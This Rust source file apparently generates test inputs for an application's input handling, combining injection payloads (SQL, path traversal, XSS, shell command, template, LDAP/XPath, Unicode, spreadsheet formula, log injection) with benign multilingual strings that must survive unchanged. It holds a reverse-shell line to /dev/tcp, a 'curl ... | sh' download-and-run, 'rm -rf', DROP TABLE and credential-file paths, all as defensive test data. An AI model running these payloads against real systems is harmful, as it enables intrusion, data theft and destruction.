//! Attacks made from parts, and honest text.

/// Each combination of the parts, joined.
fn combine(parts: &[&[&str]]) -> Vec<String> {
    parts.iter().fold(vec![String::new()], |made, choices| {
        made.iter()
            .flat_map(|start| choices.iter().map(move |it| format!("{start}{it}")))
            .collect()
    })
}

/// Attacks by category.
#[expect(clippy::too_many_lines, reason = "a table")]
pub(super) fn attacks() -> Vec<(&'static str, Vec<String>)> {
    vec![
        (
            "sql",
            [
                combine(&[
                    &["1"],
                    &["'", "\"", "')", "'))"],
                    &[" OR ", " AND ", " || ", "/**/or/**/"],
                    &["1=1", "'a'='a", "true", "1 LIKE 1"],
                    &["", " --", "#"],
                ]),
                combine(&[
                    &["'; ", "\"; ", "1; ", "'); "],
                    &[
                        "DROP TABLE tasks",
                        "DELETE FROM outbox",
                        "UPDATE tasks SET title='pwned'",
                        "INSERT INTO outbox VALUES (1, 'x')",
                        "TRUNCATE task_history",
                        "ALTER TABLE tasks RENAME TO t",
                        "ATTACH DATABASE 'pwned.db' AS p",
                        "COPY tasks TO PROGRAM 'touch pwned'",
                    ],
                    &["", "; --", "; COMMIT; --", " /*"],
                ]),
                combine(&[
                    &["' ", "1 ", "') "],
                    &["UNION SELECT ", "UNION ALL SELECT ", "uNiOn/**/sElEcT "],
                    &[
                        "NULL",
                        "NULL,NULL",
                        "sql FROM sqlite_master",
                        "usename FROM pg_shadow",
                        "load_extension('pwned')",
                    ],
                    &["", " --"],
                ]),
                combine(&[
                    &[
                        "$1",
                        "?",
                        ":id",
                        "@x",
                        "%s",
                        "' || pg_sleep(9) || '",
                        "'; WAITFOR DELAY '0:0:9'--",
                    ],
                    &["", "'", ";"],
                ]),
            ]
            .concat(),
        ),
        (
            "traversal",
            [
                combine(&[
                    &[
                        "../",
                        "..\\",
                        "..%2f",
                        "%2e%2e/",
                        "%252e%252e%252f",
                        "....//",
                        "..;/",
                        "..%c0%af",
                        "/",
                        "C:\\",
                        "file:///",
                        "\\\\host\\",
                    ],
                    &["", "../", "..%2f../", "../../../../"],
                    &[
                        "etc/passwd",
                        "windows/win.ini",
                        ".ssh/id_rsa",
                        ".env",
                        "proc/self/environ",
                        "pwned",
                    ],
                ]),
                combine(&[
                    &[
                        "repo/../", "repo/..", "./repo", "repo/.", "~/", "-rf", ".git",
                    ],
                    &["", "x", "\u{0}.png", "%00.png"],
                ]),
            ]
            .concat(),
        ),
        (
            "xss",
            combine(&[
                &["\"><", "--><", "<"],
                &[
                    "script>",
                    "ScRiPt>",
                    "img src=x onerror=",
                    "svg/onload=",
                    "iframe src=javascript:",
                    "body onpageshow=",
                    "a href=\"javascript:",
                    "math><mi//xlink:href=\"data:x,",
                ],
                &[
                    "alert(1)",
                    "alert`1`",
                    "fetch('//x')",
                    "eval(atob('YQ=='))",
                    "top['al'+'ert'](1)",
                ],
                &["", "</script>"],
            ]),
        ),
        (
            "command",
            combine(&[
                &["", "x"],
                &["; ", " | ", " && ", " || ", "\n", "$(", "`", "& "],
                &[
                    "touch pwned",
                    "rm -rf .",
                    "cat /etc/passwd",
                    "curl http://x/s|sh",
                    "sleep 9",
                    "id",
                    "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
                    "${IFS}id",
                ],
                &["", ")"],
            ]),
        ),
        (
            "template",
            combine(&[
                &["{{", "${", "#{", "<%= ", "{%", "${{", "*{"],
                &[
                    "7*7",
                    "config",
                    "''.__class__.__mro__",
                    "jndi:ldap://x/a",
                    "env:HOME",
                    "lower:j",
                    "T(java.lang.Runtime)",
                ],
                &["}}", "}", " %>", "%}"],
            ]),
        ),
        (
            "ldap and xpath",
            combine(&[
                &["*", "admin", "x'"],
                &[
                    ")(uid=*",
                    ")(|(a=*",
                    "))%00",
                    "' or '1'='1",
                    "'] | //*[",
                    "' or count(//*)>0 or '",
                ],
                &["", ")", "(", "]"],
            ]),
        ),
        (
            "unicode",
            combine(&[
                &["user", "pa", "ｓｅｌｅｃｔ"],
                &[
                    "\u{202e}",
                    "\u{2066}",
                    "\u{200b}",
                    "\u{200d}",
                    "\u{feff}",
                    "\u{ad}",
                    "\u{3164}",
                    "\u{e0041}",
                    "\u{fe0f}\u{fe0f}",
                    "\u{fff9}",
                    "\u{fdd0}",
                    "\u{10ffff}",
                    "\u{2028}",
                    "\u{85}",
                    "\u{9b}",
                    "\u{0}",
                    "\u{7f}",
                    "＇",
                    "＜script＞",
                    "．．／",
                    "е",
                    "\u{212a}",
                ],
                &["", "txt.exe", "ss"],
            ]),
        ),
        (
            "formula",
            combine(&[
                &["=", "+", "-", "@", "\t=", "\r=", " =", "\"="],
                &[
                    "cmd|' /C calc'!A0",
                    "HYPERLINK(\"http://x\",\"y\")",
                    "WEBSERVICE(\"http://x\")",
                    "1+1",
                    "SUM(1+1)*cmd|'x'!A0",
                    "DDE(\"cmd\";\"/C calc\";\"x\")",
                ],
                &["", ";"],
            ]),
        ),
        (
            "log",
            [
                combine(&[
                    &["ok", ""],
                    &[
                        "\n", "\r\n", "\r", "%0d%0a", "\\n", "\u{2028}", "\u{b}", "\u{c}",
                    ],
                    &[
                        "2026-01-01T00:00:00Z INFO login ok",
                        "{\"v\":1,\"seq\":99,\"event\":{\"event_type\":\"task_approved\"}}",
                        "[ERROR] x",
                        "Set-Cookie: a=b",
                        "CEF:0|x|y|1|1|z|9|",
                        "root: granted",
                    ],
                    &["", "\n", "\"}"],
                ]),
                combine(&[
                    &[
                        "\u{1b}[2J",
                        "\u{1b}]0;x\u{7}",
                        "\\x1b[31m",
                        "\u{8}\u{8}\u{8}",
                        "a\u{0}b",
                    ],
                    &["", "x", "\n"],
                ]),
            ]
            .concat(),
        ),
    ]
}

/// Honest titles, sentences, commit messages and paths: to be kept byte for byte.
pub(super) fn honest() -> Vec<String> {
    let sentences = [
        "fix --force flag",
        "SELECT the best option; then go",
        "../docs moved",
        "C:\\temp",
        "a -- b",
        "it's done; update the docs",
        "Don't trust user input: \"'; DROP TABLE\" must stay text",
        "Explain why <script> is escaped in titles",
        "=SUM in the export is prefixed",
        "rm -rf node_modules before the build",
        "/* comment */ support",
        "xp_cmdshell detection",
        "50% of users; 100% of admins",
        "C# & F# | VB",
        "`cargo build && cargo test`",
        "${HOME} is not expanded",
        "{{ name }} stays in templates",
        "O'Brien's report (2nd ed.)",
        "a/../b normalises to b",
        "SELECT * FROM users WHERE id = ?",
        "1 OR 1=1 in the tests",
        "price < 5 && price > 3",
        "@alice please review",
        "-1 is a valid value",
        "+1 from me",
        "#42 closes",
        "path\\to\\file",
        "100 °C",
        "5 × 3 ≠ 16",
        "“quoted” – dashed — text…",
        "naïve café",
        "10 µs",
        "e-mail: a@b.example",
        "--",
        ";",
        "' or \"",
        "日本語の説明を追加する",
        "修复登录页面的错误",
        "로그인 오류 수정",
        "Исправить ошибку входа",
        "Διόρθωση σφάλματος",
        "إصلاح خطأ تسجيل الدخول",
        "תיקון באג בכניסה",
        "می‌خواهم این را درست کنم",
        "लॉगिन त्रुटि ठीक करें",
        "লগইন ত্রুটি ঠিক করুন",
        "แก้ไขข้อผิดพลาดการเข้าสู่ระบบ",
        "Sửa lỗi đăng nhập",
        "Giriş hatasını düzelt",
        "Größe prüfen",
        "Żółć w bazie",
        "Ñandú y pingüino",
        "Çığ düşmesi",
        "Åäö fungerar",
        "ქართული ტექსტი",
        "Հայերեն տեքստ",
        "አማርኛ ጽሑፍ",
        "தமிழ் உரை",
        "తెలుగు వచనం",
        "ಕನ್ನಡ ಪಠ್ಯ",
        "മലയാളം വാചകം",
        "සිංහල පෙළ",
        "ພາສາລາວ",
        "ភាសាខ្មែរ",
        "မြန်မာစာ",
        "Монгол хэл",
        "Íslenska þýðing",
        "Gàidhlig",
        "Ελληνικά και English",
        "👩‍💻 deploys 🚀",
        "🏳️‍🌈 party 🎉",
        "1️⃣ first",
        "❤️ thanks",
        "👍🏽 approved",
    ];
    let prefixes = ["", "fix: ", "WIP ", "Re: "];
    let suffixes = ["", " (see docs/guide.md)"];
    combine(&[&prefixes, &sentences, &suffixes])
}
